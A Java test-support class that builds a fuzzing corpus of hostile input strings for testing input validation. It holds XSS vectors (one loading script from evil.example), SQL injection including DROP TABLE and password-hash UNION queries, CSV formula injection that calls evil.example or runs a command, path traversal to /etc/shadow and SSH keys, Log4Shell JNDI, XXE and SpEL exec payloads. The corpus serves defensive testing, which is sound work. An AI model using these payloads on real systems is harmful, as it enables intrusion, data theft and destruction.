package org.qcommons.testsupport;

import java.util.ArrayList;
import java.util.List;

/**
 * A corpus of hostile strings: XSS vectors, SQL metacharacters, 100 kB strings, right-to-left, zero-width and
 * emoji text, NUL bytes, CSV formula prefixes and path traversal. Over 200 entries.
 */
public final class HostileInputs {

    private HostileInputs() {
    }

    public static List<String> all() {
        List<String> c = new ArrayList<>();
        String[] xss = {
                "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "<svg onload=window.__xss=1>",
                "\"><script>window.__xss=1</script>", "'><img src=x onerror=window.__xss=1>", "javascript:window.__xss=1",
                "<iframe src=javascript:window.__xss=1>", "<body onload=window.__xss=1>", "<a href=\"javascript:window.__xss=1\">x</a>",
                "<details open ontoggle=window.__xss=1>", "<math><mtext></p><script>window.__xss=1</script>",
                "<scr<script>ipt>window.__xss=1</script>", "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
                "&lt;script&gt;window.__xss=1&lt;/script&gt;", "<style>@import'javascript:window.__xss=1';</style>",
                "<input autofocus onfocus=window.__xss=1>", "<video><source onerror=window.__xss=1>",
                "<object data=javascript:window.__xss=1>", "<embed src=javascript:window.__xss=1>",
                "[x](javascript:window.__xss=1)", "![x](x\" onerror=\"window.__xss=1)", "<a href=\"data:text/html,<script>window.__xss=1</script>\">d</a>",
                "{{constructor.constructor('window.__xss=1')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
                "<marquee onstart=window.__xss=1>", "<form action=javascript:window.__xss=1><button>x</button></form>",
                "<base href=javascript:/a/-alert(1)///////>", "<link rel=import href=data:text/html,x>",
                "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">", "<template><script>window.__xss=1</script></template>",
                "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>", "<x contenteditable onblur=window.__xss=1>",
                "\u003cscript\u003ewindow.__xss=1\u003c/script\u003e", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img \"\"\"><script>window.__xss=1</script>\">", "<a onmouseover=window.__xss=1>hover</a>",
                "<table background=javascript:window.__xss=1>", "<div style=\"background:url(javascript:window.__xss=1)\">"};
        c.addAll(List.of(xss));
        String[] sql = {
                "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE member; --", "\"; DROP TABLE project; --", "1; SELECT SLEEP(5)",
                "' UNION SELECT password_hash FROM user_account --", "%", "_", "%%", "\\", "\\'", "\\\"", "'", "\"", "`",
                "``; DROP DATABASE qcommons; --", "1' AND SLEEP(3)#", "admin'--", "' or ''='", "\\%\\_", "*", "?", "()", "[]",
                "{}", ";", "--", "/*", "*/", "NULL", "null", "undefined", "0x414243", "CHAR(65)", "1e309", "-1", "0",
                "9999999999999999999999999", "NaN", "true"};
        c.addAll(List.of(sql));
        String[] unicode = {
                "\u202Eevil\u202C", "\u202Bمرحبا بالعالم\u202C", "שלום עולם", "مرحبا", "zero\u200Bwidth", "\u200B\u200C\u200D\uFEFF",
                "😀😃😄😁😆", "👩‍⚕️👨🏽‍⚕️🧑🏿‍⚕️", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "Z̷̢̛̛͎̙̞͐̋̓a̸̧̙̋l̵̰̏g̴̺̈́o̵̡̒", "ﷺ", "𝕳𝖊𝖑𝖑𝖔", "Ａｄｍｉｎ", "ⅠⅡⅢ", "\u0000", "a\u0000b",
                "\u0000\u0000\u0000", "line\nbreak", "tab\there", "\r\n\r\n", "   ", "\u00A0", "\u2028\u2029", "\uD800", "\uDFFF",
                "Dŵr Cymru", "Ōtautahi", "Zoë Ørsted-Müller", "O'Brien", "naïve café", "Straße", "İstanbul", "ǅ", "𠜎𠜱",
                "\u0301\u0301\u0301", "\u034F", "\uFFFD", "\u001B[31mred\u001B[0m", "\u0007bell", "\u0008back"};
        c.addAll(List.of(unicode));
        String[] csv = {"=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
                "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "\"=1\"", ",,,", "a,b,\"c",
                "\"\"\"\"", "=\"\"", "@", "+", "-", "="};
        c.addAll(List.of(csv));
        String[] paths = {"../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "file:///etc/passwd", "C:\\boot.ini",
                "\\\\server\\share", "con", "aux.txt", "nul", "a/../../b", "~/.ssh/id_rsa", "/dev/random", "x.pdf.exe",
                "report.pdf\u0000.exe", "../../../../../../../../../../../../etc/shadow", ".", "..", "/", "//", "./././"};
        c.addAll(List.of(paths));
        String[] sizes = {"x".repeat(101), "x".repeat(255), "x".repeat(256), "x".repeat(2001), "x".repeat(4001),
                "€".repeat(5000), "a b ".repeat(25_000), "x".repeat(100_000), "<".repeat(100_000), "😀".repeat(25_000)};
        c.addAll(List.of(sizes));
        String[] misc = {"", " ", "a", "name@example.nhs.uk", "not-an-email", "a@b", "@example.com", "a@", "a@@b.c",
                "\"quoted\"@example.org", "x@[127.0.0.1]", "1900-01-01", "2999-12-31", "31/02/2026", "-0", "+44 117 000 0000",
                "http://localhost:8080/admin", "mailto:x@example.org", "data:,x", "%00", "%0d%0aSet-Cookie:x=1", "\r\nX-Injected: 1",
                "${jndi:ldap://evil.example/a}", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}", "<!--", "-->",
                "<![CDATA[x]]>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "{\"$gt\": \"\"}", "[object Object]", "__proto__", "constructor", "toString", "SELECT * FROM member",
                "Robert'); DROP TABLE Students;--", "AKI", "A&E", "COPD", "\"sepsis screening\"", "sepsis~", "sepsis*",
                "sepsis AND OR NOT", "(((((", ")))))", "\"unterminated", "+-&&||!(){}[]^\"~*?:\\/"};
        c.addAll(List.of(misc));
        return List.copyOf(c);
    }
}
